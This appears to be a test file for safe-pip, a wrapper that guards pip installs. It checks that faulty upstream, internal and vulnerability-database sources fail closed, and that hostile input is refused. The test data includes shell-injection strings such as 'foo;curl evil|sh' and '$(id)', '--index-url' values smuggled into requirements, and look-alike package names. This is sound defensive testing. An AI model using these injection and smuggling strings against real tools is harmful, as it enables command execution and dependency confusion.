/**
 * Everything that can go wrong between safe-pip and its sources, end to end with the real pip:
 * upstream indexes that refuse, hang, fail, reset, send garbage, send too much, tamper with files
 * or redirect elsewhere; internal indexes that are down while the public one is up; OSV sources
 * that are down, slow, malformed or damaged; broken policies; and hostile input (options smuggled
 * in as requirements, shell metacharacters, look-alike names).
 *
 * Each failure must end the same way: one clear `safe-pip: …` line, the documented exit code
 * (64 usage, 65 blocked, 69 unavailable, 78 configuration), no stack trace, nothing installed,
 * and no other source asked instead.
 *
 * The tests in each group run concurrently (each has its own fake index, since faults are
 * per-server), so the file stays well under two minutes even though each case starts real pip.
 * (This file also holds what was robustness.test.ts: the two covered the same ground.)
 */
import { limiter } from "../helpers/python.js";
import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { execFileSync } from "node:child_process";
import http from "node:http";
import { createServer } from "node:net";
import { createHash, randomBytes } from "node:crypto";
import { join } from "node:path";
import { startFakeIndex, type FakeIndex, type FakeIndexOptions, type Fault } from "../helpers/pypi-server.js";
import { buildZip, loadFixtureRecords, startOsvServer, type OsvServer } from "../helpers/osv-server.js";
import { cleanupAll, isolatedEnv, tempDir } from "../helpers/env.js";
import { daysAgo, safePip, writePolicy, type CliResult } from "../helpers/cli.js";
import { buildWheel } from "../helpers/wheel.js";
import { HttpClient } from "../../src/core/http.js";
import { createChecker } from "../../src/checks/checker.js";
import { startUnifiedIndex } from "../../src/index/server.js";
import { DEFAULT_POLICY, type Policy } from "../../src/policy/schema.js";

const servers: Array<{ close(): Promise<void> }> = [];
after(async () => {
  await Promise.all(servers.map((s) => s.close()));
  cleanupAll();
});

async function fakeIndex(opts: Partial<FakeIndexOptions> = {}, fault?: Fault): Promise<FakeIndex> {
  const idx = await startFakeIndex({ projects: { tinypkg: [{ version: "1.0", uploadTime: daysAgo(30) }] }, ...opts });
  idx.fault = fault;
  servers.push(idx);
  return idx;
}

/** A port on 127.0.0.1 that nothing listens on (bound, then released). */
async function closedPort(): Promise<number> {
  const srv = createServer();
  await new Promise<void>((resolve) => srv.listen(0, "127.0.0.1", resolve));
  const port = (srv.address() as { port: number }).port;
  await new Promise<void>((resolve) => srv.close(() => resolve()));
  return port;
}

/**
 * The interpreter itself rather than a version manager's shim for it (pyenv's runs several bash
 * scripts per start): every case here starts pip at least once.
 */
const python = execFileSync("python3", ["-c", "import sys; print(sys.executable)"], { encoding: "utf8" }).trim();

function env(policy: Record<string, unknown>, extra: Record<string, string> = {}) {
  const iso = isolatedEnv({ SAFE_PIP_CONFIG: writePolicy({ osv: { source: "off" }, timeout: "2s", ...policy }), SAFE_PIP_PYTHON: python, ...extra });
  return { env: iso.env, home: iso.home, target: tempDir("safe-pip-target-") };
}

/** At most four safe-pip runs at once across the file: each starts pip, and CI has two cores. */
const gate = limiter(4);
const run = (args: string[], opts: Parameters<typeof safePip>[1]): Promise<CliResult> => gate(() => safePip(args, opts));

const STACK = /^\s+at .+[(:]\d+:\d+\)?$/m;

/**
 * The run failed with `code`, saying so in one `safe-pip:` line that matches `message`, with no
 * stack trace and no "internal error"; and when `target` is given, nothing was installed there.
 */
function assertFailed(r: CliResult, code: number, message: RegExp, target?: string): void {
  assert.equal(r.code, code, `exit ${r.code}, wanted ${code}\n${r.stderr}`);
  const line = r.stderr.split("\n").find((l) => l.startsWith("safe-pip: ") && message.test(l));
  assert.ok(line, `no "safe-pip:" line matching ${message} in:\n${r.stderr}`);
  assert.doesNotMatch(r.stderr + r.stdout, STACK, "no stack trace");
  assert.doesNotMatch(r.stderr + r.stdout, /Traceback \(most recent call last\)/, "no Python traceback");
  assert.doesNotMatch(r.stderr, /^safe-pip: internal error/m);
  if (target) assert.deepEqual(readdirSync(target), [], "nothing installed");
}

const pathsAsked = (idx: FakeIndex, part: string) => idx.requests.filter((q) => q.path.includes(part));

describe("an upstream index that misbehaves: exit 69, one line, nothing installed", { concurrency: true }, () => {
  it("refuses connections", async () => {
    const port = await closedPort();
    const { env: e, target } = env({ index: `http://127.0.0.1:${port}/simple/` });
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, new RegExp(`127\\.0\\.0\\.1:${port}/simple/tinypkg/: connection refused`), target);
  });

  it("hangs (the policy's timeout applies)", async () => {
    const idx = await fakeIndex({}, { kind: "hang" });
    const { env: e, target } = env({ index: idx.url });
    const t0 = Date.now();
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, /simple\/tinypkg\/: no answer within 2s \(timed out\)/, target);
    assert.ok(Date.now() - t0 < 120_000);
  });

  it("answers 5xx", async () => {
    const idx = await fakeIndex({}, { kind: "status", status: 503 });
    const { env: e, target } = env({ index: idx.url });
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, /simple\/tinypkg\/: answered HTTP 503/, target);
  });

  it("resets the connection", async () => {
    const idx = await fakeIndex({}, { kind: "reset" });
    const { env: e, target } = env({ index: idx.url });
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, /simple\/tinypkg\/: connection reset/, target);
  });

  it("sends malformed PEP 691 JSON", async () => {
    const idx = await fakeIndex({ format: "json" }, { kind: "malformed" });
    const { env: e, target } = env({ index: idx.url });
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, /simple\/tinypkg\/: answered malformed PEP 691 JSON/, target);
  });

  it("sends a PEP 503 HTML page that is cut off (never read as a page with no files)", async () => {
    const idx = await fakeIndex({ format: "html" }, { kind: "malformed" });
    const { env: e, target } = env({ index: idx.url });
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, /simple\/tinypkg\/: answered a PEP 503 HTML page that is cut off or malformed/, target);
  });

  it("sends a 50 MB page (maxPageBytes 1 MB)", async () => {
    const idx = await fakeIndex({}, { kind: "huge", bytes: 50 * 1024 * 1024 });
    const { env: e, target } = env({ index: idx.url, maxPageBytes: 1024 * 1024 });
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, /simple\/tinypkg\/: response of 52428800 bytes is larger than the 1048576-byte limit/, target);
  });

  it("redirects to another host, which is never contacted", async () => {
    const elsewhere = await fakeIndex();
    const idx = await fakeIndex({}, { kind: "redirect", to: elsewhere.url.replace("127.0.0.1", "localhost") + "tinypkg/" });
    const { env: e, target } = env({ index: idx.url });
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, /simple\/tinypkg\/: redirects to another host \(http:\/\/localhost:\d+\); refusing to follow/, target);
    assert.deepEqual(elsewhere.requests, []);
  });

  it("resets in the middle of a wheel", async () => {
    const idx = await fakeIndex({ coreMetadata: false }, { kind: "truncate-file" });
    const { env: e, target } = env({ index: idx.url });
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, /tinypkg-1\.0-py3-none-any\.whl: download broke off/, target);
  });

  it("resets in the middle of a PEP 658 metadata file", async () => {
    const idx = await fakeIndex({}, { kind: "truncate-file" });
    const { env: e, target } = env({ index: idx.url });
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, /tinypkg-1\.0-py3-none-any\.whl\.metadata: download broke off/, target);
  });

  it("sends a file larger than the size its page declared", async () => {
    const idx = await fakeIndex({ coreMetadata: false, format: "json" }, { kind: "oversize-file" });
    const { env: e, target } = env({ index: idx.url });
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, /tinypkg-1\.0-py3-none-any\.whl is larger than the \d+ bytes its index declared/, target);
  });

  it("sends a wheel whose sha256 is not the one its page declared (caught in the resolve pass)", async () => {
    const idx = await fakeIndex({ coreMetadata: false }, { kind: "wrong-hash" });
    const { env: e, target } = env({ index: idx.url });
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, /tinypkg-1\.0-py3-none-any\.whl does not match the sha256 its index declared/, target);
  });

  it("tampers with the wheel only, after clean metadata (caught in the install pass)", async () => {
    const idx = await fakeIndex({}, { kind: "wrong-hash" });
    idx.faultPaths = /\.whl$/;
    const { env: e, target } = env({ index: idx.url });
    const r = await run(["install", "--target", target, "tinypkg"], { env: e });
    assertFailed(r, 69, /tinypkg-1\.0-py3-none-any\.whl does not match the sha256 its index declared/, target);
    assert.ok(pathsAsked(idx, ".whl.metadata").length > 0, "resolved from metadata first");
  });
});

describe("the unified index cuts a bad file before its last byte", () => {
  // In-process: pip checks hashes too, so only a raw client shows what pip would have received.
  async function fetchThrough(fault: Fault | undefined): Promise<{ declared: number; received: number; complete: boolean; sha256: string; expected: string }> {
    const payload = randomBytes(600 * 1024).toString("base64"); // several chunks, barely compressible
    const w = buildWheel({ name: "bigpkg", version: "1.0", files: { "bigpkg/blob.txt": payload } });
    const up = await startFakeIndex({ format: "json", coreMetadata: false, projects: { bigpkg: [{ version: "1.0", uploadTime: daysAgo(30), file: { filename: w.filename, data: w.data } }] } });
    up.fault = fault;
    const policy: Policy = { ...DEFAULT_POLICY, index: up.url, minAgeMs: 0, typosquat: "off", osv: { ...DEFAULT_POLICY.osv, source: "off" } };
    const client = new HttpClient({ timeoutMs: 5000, maxBytes: 1 << 20 });
    const index = await startUnifiedIndex({ policy, http: client, checker: createChecker({ policy, http: client, env: {} }) });
    try {
      const page = JSON.parse(await (await fetch(`${index.url}bigpkg/`, { headers: { accept: "application/vnd.pypi.simple.v1+json" } })).text()) as { files: Array<{ url: string }> };
      const fileUrl = new URL(page.files[0]!.url, `${index.url}bigpkg/`).toString();
      // Resolves once, however the transfer ends: whole, cut mid-body, or cut before any header.
      return await new Promise((resolve) => {
        const hash = createHash("sha256");
        let received = 0;
        let settled = false;
        const done = (complete: boolean) => {
          if (settled) return;
          settled = true;
          resolve({ declared: w.data.length, received, complete, sha256: hash.digest("hex"), expected: w.sha256 });
        };
        http
          .get(fileUrl, (res) => {
            res.on("data", (c: Buffer) => {
              received += c.length;
              hash.update(c);
            });
            res.on("end", () => done(res.complete));
            res.on("error", () => done(false));
            res.on("close", () => done(res.complete));
          })
          .on("error", () => done(false));
      });
    } finally {
      await index.close();
      await client.close();
      await up.close();
    }
  }

  it("a clean file passes whole", async () => {
    const r = await fetchThrough(undefined);
    assert.equal(r.received, r.declared);
    assert.ok(r.complete);
    assert.equal(r.sha256, r.expected);
  });

  it("a tampered file of the same size never arrives whole", async () => {
    const r = await fetchThrough({ kind: "wrong-hash" });
    assert.ok(r.received < r.declared, `received ${r.received} of ${r.declared} bytes`);
    assert.equal(r.complete, false);
  });
});

describe("an internal index in trouble never sends its names to the public index", { concurrency: true }, () => {
  let publicIdx: FakeIndex;
  before(async () => {
    // The attack: the public index serves the internal names too, with much higher versions.
    publicIdx = await fakeIndex({
      projects: {
        requests: [{ version: "2.31.0", uploadTime: daysAgo(400) }],
        "corp-only": [{ version: "99.0", uploadTime: daysAgo(60) }],
        "acme-lib": [{ version: "99.0", uploadTime: daysAgo(60) }],
      },
    });
  });

  it("down, with no reserved patterns: not even a public-only name is looked up", async () => {
    const port = await closedPort();
    const { env: e, target } = env({ index: publicIdx.url, internal: [{ url: `http://127.0.0.1:${port}/simple/` }] });
    const r = await run(["install", "--target", target, "requests"], { env: e });
    assertFailed(r, 69, /internal index .* is unavailable \(connection refused\); safe-pip cannot tell whether requests is internal/, target);
    assert.deepEqual(pathsAsked(publicIdx, "requests"), []);
  });

  it("hanging, for a reserved name", async () => {
    const internal = await fakeIndex({ projects: { "acme-lib": [{ version: "1.0", uploadTime: daysAgo(1) }] } }, { kind: "hang" });
    const { env: e, target } = env({ index: publicIdx.url, internal: [{ url: internal.url, packages: ["acme-*"] }] });
    const r = await run(["install", "--target", target, "acme-lib"], { env: e });
    assertFailed(r, 69, /internal index .* is unavailable \(no answer within 2s \(timed out\)\); it owns "acme-\*", so acme-lib is not looked up on the public index/, target);
    assert.deepEqual(pathsAsked(publicIdx, "acme"), []);
  });

  it("lists a name, then fails its page: the name stays internal", async () => {
    const internal = await fakeIndex({ projects: { "corp-only": [{ version: "1.0", uploadTime: daysAgo(1) }] } }, { kind: "status", status: 500 });
    internal.faultPaths = /\/simple\/corp-only\//;
    const { env: e, target } = env({ index: publicIdx.url, internal: [{ url: internal.url }] });
    // Spelled otherwise than the listing: still recognised as the internal name.
    const r = await run(["install", "--target", target, "Corp_Only"], { env: e });
    assertFailed(r, 69, /internal index .* is unavailable \(answered HTTP 500\); it lists this project, so corp-only is not looked up on the public index/, target);
    assert.ok(internal.requests.some((q) => q.path === "/simple/"), "the listing was read");
    assert.deepEqual(pathsAsked(publicIdx, "corp"), []);
  });

  it("up, with no patterns: a name it lists comes from it, however it is spelled, even with a higher public version", async () => {
    const internal = await fakeIndex({ projects: { Corp_Only: [{ version: "1.0", uploadTime: daysAgo(1) }] } });
    const { env: e, target } = env({ index: publicIdx.url, internal: [{ url: internal.url }] });
    const r = await run(["install", "--dry-run", "--target", target, "CORP.only"], { env: e });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /corp-only 1\.0\s+internal/);
    assert.deepEqual(pathsAsked(publicIdx, "corp"), []);
  });

  for (const format of ["html", "json"] as const) {
    it(`sends a cut-off ${format.toUpperCase()} listing: unavailable, not "no internal names"`, async () => {
      const internal = await fakeIndex({ format, projects: { "corp-only": [{ version: "1.0", uploadTime: daysAgo(1) }] } }, { kind: "malformed" });
      internal.faultPaths = /^\/simple\/$/;
      const { env: e, target } = env({ index: publicIdx.url, internal: [{ url: internal.url }] });
      const r = await run(["install", "--target", target, format === "html" ? "corp.only" : "corp-only"], { env: e });
      assertFailed(r, 69, /internal index .* is unavailable .*; safe-pip cannot tell whether corp-only is internal/, target);
      assert.deepEqual(pathsAsked(publicIdx, "corp"), []);
    });
  }
});

describe("an OSV source in trouble fails closed: exit 69, one line, nothing installed", { concurrency: true }, () => {
  let idx: FakeIndex;
  before(async () => {
    idx = await fakeIndex({ projects: { requests: [{ version: "2.31.0", uploadTime: daysAgo(400) }] } });
  });

  async function osv(fault: "slow" | "malformed" | "500"): Promise<OsvServer> {
    // Far longer than the 2 s timeout, so even a starved event loop on a loaded CI machine times out first.
    const s = await startOsvServer(loadFixtureRecords(), { fault, delayMs: 30_000 });
    servers.push(s);
    return s;
  }

  it("unreachable", async () => {
    const port = await closedPort();
    const { env: e, target } = env({ index: idx.url, osv: { source: "api", url: `http://127.0.0.1:${port}` } });
    const r = await run(["install", "--target", target, "requests"], { env: e });
    assertFailed(r, 69, /OSV API http:\/\/127\.0\.0\.1:\d+\/v1\/query: connection refused/, target);
  });

  it("slow (the policy's timeout applies)", async () => {
    const s = await osv("slow");
    const { env: e, target } = env({ index: idx.url, osv: { source: "api", url: s.url } });
    const r = await run(["install", "--target", target, "requests"], { env: e });
    assertFailed(r, 69, /OSV API .*\/v1\/query: no answer within 2s \(timed out\)/, target);
  });

  it("answers malformed JSON", async () => {
    const s = await osv("malformed");
    const { env: e, target } = env({ index: idx.url, osv: { source: "api", url: s.url } });
    const r = await run(["install", "--target", target, "requests"], { env: e });
    assertFailed(r, 69, /OSV API .*\/v1\/query: answer is not valid JSON/, target);
  });

  it("answers HTTP 500", async () => {
    const s = await osv("500");
    const { env: e, target } = env({ index: idx.url, osv: { source: "api", url: s.url } });
    const r = await run(["install", "--target", target, "requests"], { env: e });
    assertFailed(r, 69, /OSV API .*\/v1\/query: HTTP 500/, target);
  });

  it("an offline database that is a truncated zip", async () => {
    const dir = tempDir();
    const zip = buildZip(loadFixtureRecords().map((rec) => ({ name: `${rec.id}.json`, data: JSON.stringify(rec) })));
    const db = join(dir, "all.zip");
    writeFileSync(db, zip.subarray(0, Math.floor(zip.length * 0.6)));
    const { env: e, target } = env({ index: idx.url, osv: { source: "offline", database: db } });
    const r = await run(["install", "--target", target, "requests"], { env: e });
    assertFailed(r, 69, /offline OSV database .*all\.zip is not a valid zip archive: .*truncated/, target);
  });
});

describe("broken policies: exit 78 naming the file and key, before pip runs", () => {
  it("broken JSON", async () => {
    const dir = tempDir();
    writeFileSync(join(dir, "policy.json"), '{"minAge": "7d",');
    const { env: e } = env({}, { SAFE_PIP_CONFIG: join(dir, "policy.json") });
    const r = await run(["install", "requests"], { env: e });
    assertFailed(r, 78, /policy file .*policy\.json is not valid JSON/);
  });

  const bad: Array<[Record<string, unknown>, RegExp]> = [
    [{ minAge: "7 days" }, /key "minAge" "7 days" is not a duration/],
    [{ minAge: "-1d" }, /key "minAge" "-1d" is not a duration/],
    [{ timeout: "0" }, /key "timeout" must be longer than 0/],
    [{ timeout: "fast" }, /key "timeout" "fast" is not a duration/],
    [{ osv: { source: "api", cacheTtl: "P" } }, /key "osv\.cacheTtl" "P" is not a duration/],
    [{ osv: { source: "offline", maxStaleness: "1 week", database: "/x" } }, /key "osv\.maxStaleness" "1 week" is not a duration/],
    [{ maxPageBytes: "1MB" }, /key "maxPageBytes" must be a positive whole number/],
    [{ osv: { source: "offline" } }, /key "osv\.database" is required/],
  ];
  for (const [policy, message] of bad) {
    it(`${JSON.stringify(policy)}`, async () => {
      const { env: e } = env(policy);
      const r = await run(["install", "requests"], { env: e });
      assertFailed(r, 78, message);
    });
  }
});

describe("policy and input", { concurrency: true }, () => {
  let publicIdx: FakeIndex;
  let internalIdx: FakeIndex;
  let evilIdx: FakeIndex;
  before(async () => {
    publicIdx = await fakeIndex({
      projects: { requests: [{ version: "2.31.0", uploadTime: daysAgo(400) }], "acme-lib": [{ version: "99.0", uploadTime: daysAgo(60) }], foo: [{ version: "1.0", uploadTime: daysAgo(60) }] },
    });
    internalIdx = await fakeIndex({ projects: { "acme-lib": [{ version: "1.0", uploadTime: daysAgo(1) }] } });
    evilIdx = await fakeIndex({ projects: { requests: [{ version: "99.0", uploadTime: daysAgo(60) }], foo: [{ version: "99.0", uploadTime: daysAgo(60) }] } });
  });
  const setup = (extra: Record<string, unknown> = {}) => env({ index: publicIdx.url, internal: [{ url: internalIdx.url, packages: ["acme-*"] }], ...extra });

  it("unknown policy keys are warnings; the run still works", async () => {
    const { env: e, target } = setup({ colour: "blue", minAgee: "1d" });
    const r = await run(["install", "--dry-run", "--target", target, "requests"], { env: e });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /safe-pip: warning: .*policy\.json: unknown key "colour" ignored/);
    assert.match(r.stderr, /unknown key "minAgee" ignored/);
    assert.match(r.stderr, /requests 2\.31\.0\s+public/);
  });

  it("malformed requirements lines are usage errors naming the file and line", async () => {
    const dir = tempDir();
    const cases: Array<[string, RegExp]> = [
      ["requests>>2", /bad1\.txt:2: invalid requirement "requests>>2"/],
      ["foo[bar", /bad2\.txt:2: invalid requirement "foo\[bar"/],
      ['--only-binary ":all:', /bad3\.txt:2: unclosed quote/],
      ["--frobnicate", /bad4\.txt:2: unsupported option --frobnicate/],
      ["-r missing.txt", /cannot read requirements file .*missing\.txt \(from .*bad5\.txt:2\): no such file/],
      ["foo==1.0 --hash", /bad6\.txt:2: option --hash needs a value/],
      ["requests==", /bad7\.txt:2: invalid requirement "requests==": cannot read the version specifier/],
    ];
    await Promise.all(
      cases.map(async ([line, message], i) => {
        const file = join(dir, `bad${i + 1}.txt`);
        writeFileSync(file, `requests\n${line}\n`);
        const { env: e, target } = setup();
        const r = await run(["install", "--target", target, "-r", file], { env: e });
        assertFailed(r, 64, message, target);
      }),
    );
  });

  it("--index-url smuggled as a requirement (after --, in a requirement's text, or a requirements-file line) is never used", async () => {
    const evil = evilIdx.url;
    const dir = tempDir();
    writeFileSync(join(dir, "a.txt"), `requests --index-url ${evil}\n`);
    writeFileSync(join(dir, "b.txt"), `requests\n"--index-url=${evil}"\n`);
    writeFileSync(join(dir, "c.txt"), `foo[x --index-url=${evil}]\n`);
    const runs: Array<[string[], RegExp]> = [
      [["--", `--index-url=${evil}`], /invalid requirement "--index-url=.*": looks like an option/],
      [["--", `-i${evil}`, "requests"], /invalid requirement "-ihttp:.*": looks like an option \(from the command line\)$/],
      [[`requests --index-url=${evil}`], /invalid requirement "requests --index-url=.*"/],
      [[`foo; os_name == " --index-url=${evil} " or os_name == "x"`], /invalid requirement|cannot be passed/],
      [["-r", join(dir, "a.txt")], /a\.txt:1: unsupported option --index-url/],
      [["-r", join(dir, "b.txt")], /b\.txt:2: invalid requirement/],
      [["-r", join(dir, "c.txt")], /c\.txt:1: invalid requirement/],
    ];
    await Promise.all(
      runs.map(async ([args, message]) => {
        const { env: e, target } = setup();
        const r = await run(["install", "--target", target, ...args], { env: e });
        assertFailed(r, 64, message, target);
      }),
    );
    // The same through pip index, and through a ${VAR} in a requirements file.
    writeFileSync(join(dir, "d.txt"), "requests --index-url=${EVIL}\n");
    const { env: e, target } = setup();
    const [index, viaVar] = await Promise.all([
      run(["index", "versions", "--", `--index-url=${evil}`], { env: e }),
      run(["install", "--target", target, "-r", join(dir, "d.txt")], { env: { ...e, EVIL: evil } }),
    ]);
    assertFailed(index, 64, /invalid argument "--index-url=.*" for pip index: looks like an option$/);
    assertFailed(viaVar, 64, /d\.txt:1: unsupported option --index-url in a requirements file$/, target);
    assert.deepEqual(evilIdx.requests, [], "the smuggled index was never contacted");
  });

  it("a ${VAR} that pip would expand again, or a value with a line break pip would split on (64)", async () => {
    const dir = tempDir();
    writeFileSync(join(dir, "a.txt"), "--only-binary=${V1}\nrequests\n");
    writeFileSync(join(dir, "b.txt"), "--use-feature=${V3}\nrequests\n");
    const vars = { V1: "${V2}", V2: `x' --index-url=${evilIdx.url} '`, V3: `truststore\x1c--index-url=${evilIdx.url}` };
    const [a, b] = [setup(), setup()];
    const [ra, rb] = await Promise.all([
      run(["install", "--target", a.target, "-r", join(dir, "a.txt")], { env: { ...a.env, ...vars } }),
      run(["install", "--target", b.target, "-r", join(dir, "b.txt")], { env: { ...b.env, ...vars } }),
    ]);
    assertFailed(ra, 64, /a\.txt:1: "--only-binary='\$\{V2\}'" cannot be passed to pip safely: pip would expand \$\{V2\} in it again$/, a.target);
    assertFailed(rb, 64, /b\.txt:1: ".*" cannot be passed to pip safely: it holds a line break$/, b.target);
    assert.deepEqual(evilIdx.requests, [], "the smuggled index was never contacted");
  });

  it("sources hidden in quoted option values of a requirements file stay values", async () => {
    // Written back unquoted, `--only-binary='x --index-url=EVIL'` would be two options to pip.
    const wheels = tempDir();
    const w = buildWheel({ name: "requests", version: "77.7" });
    writeFileSync(join(wheels, w.filename), w.data);
    const dir = tempDir();
    writeFileSync(join(dir, "r.txt"), `--only-binary="x --index-url=${evilIdx.url}"\n--no-binary 'y --find-links=${wheels}'\nrequests\n`);
    const { env: e, target } = setup();
    const r = await run(["install", "--dry-run", "--target", target, "-r", join(dir, "r.txt")], { env: e });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /requests 2\.31\.0\s+public/);
    assert.doesNotMatch(r.stderr, STACK);
    assert.deepEqual(evilIdx.requests, [], "the smuggled index was never contacted");
  });

  it("shell metacharacters in names are refused, and nothing is ever run", async () => {
    const dir = tempDir();
    const canary = join(dir, "canary");
    const runs: Array<[string, RegExp]> = [
      ["foo;curl evil|sh", /invalid requirement "foo;curl evil\|sh": cannot read the environment marker "curl evil\|sh"/],
      [`foo; touch ${canary}`, /cannot read the environment marker|no such file/],
      ["$(id)", /invalid requirement "\$\(id\)": not a package name/],
      [`$(touch ${canary})`, /invalid requirement/],
      [`foo\`touch ${canary}\``, /invalid requirement/],
      [`foo[$(touch ${canary})]`, /invalid requirement "foo\[\$\(touch /],
      ["foo && id", /invalid requirement "foo && id"/],
    ];
    await Promise.all(
      runs.map(async ([arg, message]) => {
        const { env: e, target } = setup();
        const r = await run(["install", "--target", target, arg], { env: e, cwd: dir });
        assertFailed(r, 64, message, target);
      }),
    );
    assert.equal(existsSync(canary), false, "no command ran");
  });

  const reqDir = tempDir();
  writeFileSync(join(reqDir, "req.txt"), "acme.lib\n");
  for (const args of [["Acme_Lib"], ["acme.lib"], ["ACME--lib>=0.1"], ["-r", join(reqDir, "req.txt")]]) {
    const name = args.join(" ");
    it(`"${name}" normalises to an internal name and is answered from the internal index only`, async () => {
      const { env: e, target } = setup();
      const before = pathsAsked(publicIdx, "acme").length;
      const r = await run(["install", "--dry-run", "--target", target, ...args], { env: e });
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stderr, /acme-lib 1\.0\s+internal/);
      assert.equal(pathsAsked(publicIdx, "acme").length, before, "the public index was never asked");
    });
  }

  it("Unicode look-alikes (Cyrillic е in rеquests) are refused, on the command line and in files", async () => {
    const lookalike = "r\u0435quests";
    const dir = tempDir();
    mkdirSync(join(dir, "sub"));
    const text = `requests\n${lookalike}>=2\n`;
    writeFileSync(join(dir, "sub", "r.txt"), text);
    const [a, b] = await Promise.all([
      (async () => {
        const { env: e, target } = setup();
        return { r: await run(["install", "--target", target, lookalike], { env: e }), target };
      })(),
      (async () => {
        const { env: e, target } = setup();
        return { r: await run(["install", "--target", target, "-r", join(dir, "sub", "r.txt")], { env: e }), target };
      })(),
    ]);
    assertFailed(a.r, 64, /invalid requirement "r\u0435quests": package names are ASCII only \(look-alike characters\?\)/, a.target);
    assertFailed(b.r, 64, /r\.txt:2: invalid requirement "r\u0435quests>=2": package names are ASCII only/, b.target);
    assert.equal(readFileSync(join(dir, "sub", "r.txt"), "utf8"), text, "the user's file is untouched");
    assert.deepEqual(publicIdx.requests.filter((q) => /%|r\u0435quests/.test(q.path)), [], "nothing was looked up");
  });
});
